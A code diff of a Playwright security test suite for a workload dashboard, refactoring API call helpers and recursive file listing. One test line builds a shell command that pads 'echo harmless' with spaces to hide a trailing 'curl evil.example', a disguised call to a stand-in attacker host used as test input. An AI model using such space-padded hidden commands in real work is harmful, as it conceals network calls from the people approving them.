@@ -1,7 +1,8 @@
 // What people and programs write is shown and never run; a workload's page reaches nothing of the dashboard.
-import { readdirSync, readFileSync } from 'node:fs'
+import { type Dirent, readdirSync, readFileSync } from 'node:fs'
 import path from 'node:path'
 import { type BrowserContext, expect, type Page, test } from '@playwright/test'
+import { ask, order } from './support/api'
 import { Berth } from './support/berth'
 import { PERSON, signUp, terminalRows, watchForFaults } from './support/pages'
 
@@ -39,22 +40,7 @@ test.afterAll(async () => {
 })
 test.afterEach(() => expect(faults).toEqual([]))
 
-/** Calls a procedure as the page itself does. */
-function call<T>(method: 'GET' | 'POST', procedure: string, input: unknown): Promise<T> {
-  return page.evaluate(
-    async ([how, at, body]) => {
-      const isPost = how === 'POST'
-      const headers = { 'content-type': 'application/json' }
-      const address = `/api/trpc/${at}${isPost ? '' : `?input=${encodeURIComponent(body)}`}`
-      const answer = await fetch(address, isPost ? { method: how, headers, body } : {})
-      const said = await answer.json()
-      if (!answer.ok) throw new Error(JSON.stringify(said))
-      return said.result.data.json
-    },
-    [method, procedure, JSON.stringify({ json: input })] as const,
-  )
-}
-const rows = async () => (await call<{ rows: { label: string }[] }>('GET', 'workloads.list', {})).rows
+const rows = async () => (await ask<{ rows: { label: string }[] }>(page, 'workloads.list', {})).rows
 
 test('V10: a link creates nothing by itself, and shows all that it asks for', async () => {
   const command = ['/bin/sh', '-c', `echo harmless${' '.repeat(200)}; curl evil.example`]
@@ -87,8 +73,8 @@ test('G13: nothing that a person or a program wrote runs on any page', async () 
   const program = `import http.server,sys;print(sys.argv[1],flush=True);http.server.test(http.server.SimpleHTTPRequestHandler,port=${PORT},bind="127.0.0.1")`
   const command = ['/usr/bin/python3', '-c', program, OUTPUT.join(' ')]
   const spec = { runtime: 'shell', cpus: 1, memoryBytes: 2 ** 30, diskBytes: 0, command }
-  const { id } = await call<{ id: string }>('POST', 'workloads.create', { kind: 'session', name: 'hostile', spec })
-  await call('POST', 'tokens.create', { name: MARKUP[3], scopes: ['read'], days: 1, password: PERSON.password })
+  const { id } = await order<{ id: string }>(page, 'workloads.create', { kind: 'session', name: 'hostile', spec })
+  await order(page, 'tokens.create', { name: MARKUP[3], scopes: ['read'], days: 1, password: PERSON.password })
   const tabs = ['overview', 'timeline', 'logs', 'sharing', 'settings', 'json'].map((tab) => `/workloads/${id}?tab=${tab}`)
   for (const at of [`/workloads/${id}/terminal`, ...tabs, '/', '/workloads', '/machines', '/people', '/new?kind=session']) {
     await page.goto(berth.origin + at)
@@ -126,7 +112,7 @@ test('G1, G2: a page in a workload reads, sends, frames and opens nothing of the
 })
 
 test('K1, K3, K10: no secret of a person is in an argument, a variable, a log or a file', async () => {
-  const { token } = await call<{ token: string }>('POST', 'tokens.create', {
+  const { token } = await order<{ token: string }>(page, 'tokens.create', {
     name: 'laptop',
     scopes: ['read'],
     password: PERSON.password,
@@ -200,10 +186,23 @@ function processTexts(): [string, string][] {
 }
 
 function fileTexts(folder: string): [string, string][] {
-  return readdirSync(folder, { recursive: true, withFileTypes: true })
-    .filter((entry) => entry.isFile())
-    .map((entry) => path.join(entry.parentPath, entry.name))
-    .map((file): [string, string] => [path.relative(folder, file), read(file)])
+  return filesOf(folder).map((file): [string, string] => [path.relative(folder, file), read(file)])
+}
+
+function filesOf(folder: string): string[] {
+  return entriesOf(folder).flatMap((entry) => {
+    const at = path.join(folder, entry.name)
+    if (entry.isDirectory()) return filesOf(at)
+    return entry.isFile() ? [at] : []
+  })
+}
+
+function entriesOf(folder: string): Dirent[] {
+  try {
+    return readdirSync(folder, { withFileTypes: true })
+  } catch {
+    return [] // a folder that went meanwhile
+  }
 }
 
 /** Empty when it is gone. */
